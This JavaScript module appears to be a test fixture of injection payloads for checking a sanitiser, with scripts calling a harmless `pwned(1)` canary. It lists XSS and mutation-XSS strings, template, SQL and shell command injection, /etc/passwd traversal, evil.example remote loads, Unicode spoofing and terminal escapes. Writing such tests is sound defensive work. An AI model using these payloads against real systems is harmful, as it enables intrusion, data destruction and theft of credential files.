// Texts that try to become more than text. Every payload that runs calls `pwned`.
const CALL = 'pwned(1)';

const html = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=data:,${CALL}></script>`, `<script/x>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}"`, `<img/src=x/onerror=${CALL}>`, `<img src=1 href=1 onerror="javascript:${CALL}">`,
  `<body onload=${CALL}>`, `<iframe srcdoc="<script>parent.${CALL}</script>">`, `<iframe src=javascript:${CALL}>`, `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}>`, `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`, `<marquee onstart=${CALL}>x</marquee>`,
  `<form action=javascript:${CALL}><input type=submit autofocus>`, `<button formaction=javascript:${CALL}>Confirm</button>`, `<a href=javascript:${CALL}>click</a>`,
  `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`, `<div style="background:url(//evil.example/x)">`, `<template><script>${CALL}</script></template>`,
  `<dialog open><form method=post action=/do/retract>`, `<plaintext>`, `<xmp>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<isindex type=image src=1 onerror=${CALL}>`, `<frameset onload=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`, `<table background=javascript:${CALL}>`,
];
const attribute = [
  `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus="${CALL}" x="`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`,
  '"><img src=x onerror=' + CALL + '>', '` onmouseover=' + CALL, `" style="animation-name:x" onanimationstart="${CALL}`, `" accesskey="x" onclick="${CALL}`,
  `" data-key="y" data-row="`, `" formaction="//evil.example`, `" href="javascript:${CALL}`, `x" id="news`, `" name="back" value="//evil.example`,
  `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `</script><script>${CALL}</script>`,
  `</pre></div></main><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`, `<!--<img src="--><img src=x onerror=${CALL}//">`,
];
const url = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java&#x09;script:${CALL}`, ` javascript:${CALL}`, `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `//evil.example/x`,
  `https://evil.example/?q="><script>${CALL}</script>`, `http://evil.example#javascript:${CALL}`, `[x](javascript:${CALL})`, `![x](https://evil.example/x.png)`,
  `<https://evil.example>`, `[L-7k2f5qm3](javascript:${CALL})`, `[L-7k2f5qm3]`, `/do/retract?entry=L-7k2f5qm3`, `\\\\evil.example\\share`, `file:///etc/passwd`,
];
const svg = [
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${CALL}><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CALL}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:${CALL}>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<math href=javascript:${CALL}>x</math>`, `<svg><image href=//evil.example/x>`,
];
const mutation = [
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`, `<noscript><style></noscript><img src=x onerror=${CALL}>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`, `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`, `<p><svg><![CDATA[<img src=x onerror=${CALL}>]]></svg>`,
  '<img src="`` onerror=' + CALL + '">', `<a title="&lt;img src=x onerror=${CALL}&gt;">`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `\\x3cscript\\x3e${CALL}`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];
const template = [
  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{% raw %}${CALL}{% endraw %}`, `{{7*7}}`, `@if (true) { ${CALL} }`, `(PreEscaped("<script>${CALL}</script>"))`,
  `*{x:expression(${CALL})}`, `__proto__`, `constructor`, `toString`, `'; DROP TABLE entries; --`, `' OR 1=1 --`, `$(touch /tmp/pwned)`, '`touch /tmp/pwned`', `| cat /etc/passwd`, `../../../../etc/passwd`, `{"$ne": null}`, `=HYPERLINK("//evil.example")`,
];
const unicode = [
  `\u202e<script>${CALL}</script>\u202c`, `\u2066gnp.exe\u2069`, `zero\u200bwidth\u200cjoin\u200ders\u2060here`, `\ufeffbyte order mark`, `soft\u00adhyphen`, `\u{e0001}\u{e0041}\u{e0042}tags`,
  `p\u0430yment (Cyrillic a)`, `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`, `\u02bascript\u02ba`, `Z${'\u0351\u0306\u0334'.repeat(60)}algo`, `\u1d552\u1d553 letters`, `K\u212aelvin \u017f`, `e\u0301 or \u00e9`,
  `🏴‍☠️👩‍👩‍👧‍👦 emoji`, `\ufdfd`.repeat(20), `\u0621\u0628 \u05d0\u05d1 mixed right to left`, `\u2028line\u2029paragraph`, `\ud7ff\ue000 private`, `\u3164 filler`, `\u061c arabic mark`,
  `\x1b[31mred\x1b[0m`, `\x1b]8;;https://evil.example\x07link\x1b]8;;\x07`, `\x1b]0;title\x07`, `\x1b[2J\x1b[H`, `bell\x07 and backspace\b\b\b`, `carriage\rreturn`, `null\x00byte`, `\x9b31m`, `\x7fdelete`, `tab\tand\vvertical`,
];
const size = [
  'A'.repeat(3_900), '<'.repeat(3_900), '&'.repeat(3_900), `${'<b>'.repeat(1_200)}deep`, '"'.repeat(3_900), '\u202e'.repeat(900), 'word '.repeat(700), `${'`'.repeat(1_000)}`, '['.repeat(1_500) + ']'.repeat(1_500), '&lt;'.repeat(900),
];

// Each family, and each simple payload once more wrapped as parts of prose and code.
const simple = [...html, ...attribute, ...svg];
const wrapped = simple.map((it, at) => [`The attacker sent \`${it}\` as a name`, `See [${it}] before a release`, `A claim, then ${it}`, `${it}\n\nsecond paragraph`][at % 4]);
export const payloads = [...html, ...attribute, ...url, ...svg, ...mutation, ...template, ...unicode, ...size, ...wrapped];
export const LONG_WORD = 'W'.repeat(100_000);
